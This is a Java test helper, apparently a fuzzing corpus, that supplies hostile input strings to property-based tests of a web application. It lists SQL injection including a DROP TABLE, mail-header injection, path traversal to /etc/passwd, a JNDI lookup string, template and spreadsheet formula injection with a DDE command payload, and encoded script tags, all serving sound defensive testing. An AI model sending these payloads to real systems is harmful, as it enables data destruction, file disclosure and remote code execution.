package it.hostile;

import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Strings an attacker or a careless client sends: markup, line breaks meant for mail headers, path
 * tricks, numbers out of range, unicode oddities and sizes no form expects.
 */
public final class HostileText {
  /** Text that breaks parsers, paths, SQL and mail headers (no markup: see {@link XssCorpus}). */
  public static final List<String> ODDITIES =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "x\r\nBcc: evil@example.com",
          "x%0d%0aX-Injected: yes",
          "x\nX-Injected: yes",
          "\u2028\u2029\u0085",
          "../../../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "%00",
          "%",
          "%zz",
          "%%41",
          "' OR '1'='1",
          "\"; DROP TABLE svy_survey; --",
          "\\",
          "\"",
          "{{",
          "{{#x}}{{/x}}",
          "${jndi:ldap://example.com/a}",
          "#{7*7}",
          "-1",
          "0",
          "-2147483649",
          "2147483648",
          "9223372036854775808",
          "1e309",
          "NaN",
          "Infinity",
          "0x1F",
          "1.5",
          "true",
          "null",
          "[]",
          "{}",
          "2026-02-30",
          "2026-13-01",
          "9999999-01-01",
          "1970-01-01T00:00:00",
          "P-1D",
          "00000000-0000-0000-0000-000000000000",
          "not-a-uuid",
          "\uFEFFbom",
          "\uD83D\uDE00\uD83D\uDC4D\uD83C\uDFFD",
          "\uD800",
          "e\u0301\u0301\u0301\u0301",
          "\u202Egnp.exe",
          "\u0130\u0131\u00DF\uFB03",
          "admin",
          "ADMIN ",
          "a@b",
          "@example.com",
          "mailto:x@example.com",
          "=1+2",
          "+SUM(A1)",
          "-2+3",
          "@SUM(1)",
          "\t=cmd|' /C calc'!A0");

  private HostileText() {}

  /** A long string of one character, sized for limits (255, 4,000, 64 KB and beyond). */
  public static String huge(int length, char c) {
    return String.valueOf(c).repeat(length);
  }

  /** Oddities, markup payloads, huge values and random unicode. */
  public static Arbitrary<String> strings() {
    List<String> fixed = new ArrayList<>(ODDITIES);
    fixed.addAll(XssCorpus.payloads("fz"));
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(6, Arbitraries.of(fixed)),
        net.jqwik.api.Tuple.of(
            1,
            Arbitraries.of(256, 4_001, 70_000, 1_100_000)
                .flatMap(n -> Arbitraries.of('a', '\u00e9', '<').map(c -> huge(n, c)))),
        net.jqwik.api.Tuple.of(2, Arbitraries.strings().all().ofMaxLength(40)),
        net.jqwik.api.Tuple.of(
            1, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1)));
  }

  /** Values for an id in a path: unknown ids, traversal, encoded NUL, numbers out of range. */
  public static Arbitrary<String> pathSegments() {
    return Arbitraries.of(
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "not-a-uuid",
        "..",
        "..%2F..%2Fapi%2Fusers",
        "%2e%2e",
        "%00",
        "a%00b",
        "-1",
        "0",
        "99999999999999999999999",
        "%E2%80%AE",
        "%C0%AE",
        "%FF%FE",
        "x".repeat(5_000),
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%0D%0AX-Injected:%20yes",
        "nps_1",
        "%20");
  }
}
